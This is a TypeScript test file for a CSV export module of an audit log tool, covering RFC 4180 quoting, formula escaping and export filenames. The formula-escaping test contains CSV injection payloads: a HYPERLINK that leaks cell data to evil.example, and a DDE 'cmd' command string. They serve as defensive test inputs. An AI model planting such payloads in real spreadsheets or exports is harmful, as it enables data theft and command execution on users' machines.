import { describe, expect, it } from "vitest";
import { auditCsvRecord, csvField, csvRecord, CSV_COLUMNS, exportFilename } from "./export";
import type { AuditEventDto } from "./queries";

// A minimal RFC 4180 reader, to show that what we write reads back to the same values.
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = "";
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i]!;
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') {
        field += '"';
        i++;
      } else if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"') quoted = true;
    else if (c === ",") {
      row.push(field);
      field = "";
    } else if (c === "\r" && text[i + 1] === "\n") {
      row.push(field);
      rows.push(row);
      row = [];
      field = "";
      i++;
    } else field += c;
  }
  return rows;
}

describe("csvField (RFC 4180)", () => {
  it("leaves plain values bare", () => {
    expect(csvField("version.registered")).toBe("version.registered");
    expect(csvField("2026-11-23T10:00:00.000Z")).toBe("2026-11-23T10:00:00.000Z");
  });

  it("quotes commas, quotes, CR and LF, doubling quotes", () => {
    expect(csvField("a,b")).toBe('"a,b"');
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
    expect(csvField("line 1\nline 2")).toBe('"line 1\nline 2"');
    expect(csvField("a\r\nb")).toBe('"a\r\nb"');
  });

  it("quotes leading or trailing spaces, which some readers trim", () => {
    expect(csvField(" padded ")).toBe('" padded "');
  });

  it("keeps an empty string distinct from an absent value", () => {
    expect(csvField("")).toBe('""');
    expect(csvField(null)).toBe("");
    expect(csvField(undefined)).toBe("");
  });

  it("defuses cells a spreadsheet would run as a formula, with a leading single quote", () => {
    expect(csvField('=HYPERLINK("http://evil.example/?leak="&A1,"click")')).toBe(
      `"'=HYPERLINK(""http://evil.example/?leak=""&A1,""click"")"`,
    );
    expect(csvField("=SUM(A1)")).toBe("'=SUM(A1)");
    expect(csvField("+1+cmd|' /C calc'!A0")).toBe("'+1+cmd|' /C calc'!A0");
    expect(csvField("-2+3")).toBe("'-2+3");
    expect(csvField("@SUM(A1)")).toBe("'@SUM(A1)");
    expect(csvField("\t=1")).toBe("'\t=1");
    expect(csvField("\r=1")).toBe(`"'\r=1"`);
    // only the first character matters
    expect(csvField("a=b")).toBe("a=b");
    expect(csvField("2026-11-23T10:00:00.000Z")).toBe("2026-11-23T10:00:00.000Z");
  });

  it("ends records with CRLF", () => {
    expect(csvRecord(["a", null, "b,c"])).toBe('a,,"b,c"\r\n');
  });
});

describe("auditCsvRecord", () => {
  const event: AuditEventDto = {
    seq: "42",
    at: "2026-11-23T10:00:00.000Z",
    actor: { type: "user", id: "u1", label: "ana@example.com" },
    action: "version.registered",
    subject: { type: "model_version", id: "fraud-scorer@2026-11-23.1" },
    modelKey: "fraud-scorer",
    before: null,
    after: { version: "2026-11-23.1", changelog: 'Retrained, "v2" features\nand more' },
    reason: "weekly, retrain",
    requestId: null,
    prevHash: "a".repeat(64),
    hash: "b".repeat(64),
  };

  it("has one field per column and round-trips through a CSV reader", () => {
    const text = csvRecord(CSV_COLUMNS) + auditCsvRecord(event);
    const [header, row] = parseCsv(text);
    expect(header).toEqual([...CSV_COLUMNS]);
    expect(row).toHaveLength(CSV_COLUMNS.length);
    const byName = Object.fromEntries(CSV_COLUMNS.map((c, i) => [c, row![i]]));
    expect(byName.seq).toBe("42");
    expect(byName.reason).toBe("weekly, retrain");
    expect(byName.before).toBe("");
    expect(JSON.parse(byName.after!)).toEqual(event.after);
    expect(byName.hash).toBe(event.hash);
  });
});

describe("exportFilename", () => {
  it("names the UTC date and the format", () => {
    const now = new Date("2026-11-23T23:30:00Z");
    expect(exportFilename("csv", now)).toBe("rollgate-audit-2026-11-23.csv");
    expect(exportFilename("ndjson", now)).toBe("rollgate-audit-2026-11-23.ndjson");
  });
});
